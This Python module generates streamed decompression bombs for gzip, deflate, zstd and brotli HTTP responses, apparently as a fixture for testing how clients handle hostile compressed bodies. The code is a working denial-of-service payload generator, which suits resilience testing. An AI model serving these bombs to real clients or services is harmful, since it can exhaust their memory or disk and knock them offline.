"""Decompression bombs, generated as a stream: a few hundred KB on the wire that inflate to ``size`` bytes.

Nothing here holds the inflated size in memory. The gzip and deflate bombs compress one MiB of zeros
once, with a full flush (which resets the compressor's history, so every later MiB compresses to the
very same bytes), and repeat that piece; only the checksum of the whole is computed, MiB by MiB. The
zstd and brotli bombs stream a real compressor over zeros, one MiB at a time.

::

    site.stream("/bomb", lambda: bomb("gzip", 1 << 30), headers={"Content-Encoding": "gzip"})
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterator
from functools import cache

PIECE = 1 << 20
ENCODINGS = ("gzip", "deflate", "br", "zstd")


def bomb(encoding: str, size: int) -> Iterator[bytes]:
    """The body, in pieces, of a ``Content-Encoding: encoding`` answer that inflates to ``size`` bytes."""
    if size % PIECE:
        raise ValueError("a bomb's size is a whole number of MiB")
    pieces = size // PIECE
    if encoding == "gzip":
        return _gzip(pieces)
    if encoding == "deflate":
        return _zlib(pieces)
    if encoding == "zstd":
        return _zstd(pieces)
    if encoding == "br":
        return _brotli(pieces)
    raise ValueError(f"no bomb for {encoding!r}")


@cache
def _deflate_piece() -> bytes:
    """Raw deflate of one MiB of zeros, ending on a full flush (byte-aligned, history reset)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return compressor.compress(bytes(PIECE)) + compressor.flush(zlib.Z_FULL_FLUSH)


FINAL_EMPTY_BLOCK = b"\x03\x00"  # a last, empty, fixed-Huffman deflate block


@cache
def _checksums(pieces: int) -> tuple[int, int]:
    zeros = bytes(PIECE)
    crc, adler = 0, 1
    for _ in range(pieces):
        crc = zlib.crc32(zeros, crc)
        adler = zlib.adler32(zeros, adler)
    return crc, adler


def _gzip(pieces: int) -> Iterator[bytes]:
    yield b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"  # magic, deflate, no flags, no mtime, best, unix
    piece = _deflate_piece()
    for _ in range(pieces):
        yield piece
    crc, _adler = _checksums(pieces)
    yield FINAL_EMPTY_BLOCK + struct.pack("<II", crc, (pieces * PIECE) & 0xFFFFFFFF)


def _zlib(pieces: int) -> Iterator[bytes]:
    # HTTP's "deflate" is the zlib format (RFC 9110 8.4.1.2).
    yield b"\x78\xda"
    piece = _deflate_piece()
    for _ in range(pieces):
        yield piece
    _crc, adler = _checksums(pieces)
    yield FINAL_EMPTY_BLOCK + struct.pack(">I", adler)


def _zstd(pieces: int) -> Iterator[bytes]:
    import zstandard

    compressor = zstandard.ZstdCompressor(level=3).compressobj()
    zeros = bytes(PIECE)
    for _ in range(pieces):
        if out := compressor.compress(zeros):
            yield out
    yield compressor.flush()


def _brotli(pieces: int) -> Iterator[bytes]:
    import brotli

    compressor = brotli.Compressor(quality=1)
    zeros = bytes(PIECE)
    for _ in range(pieces):
        if out := compressor.process(zeros):
            yield out
    yield compressor.finish()
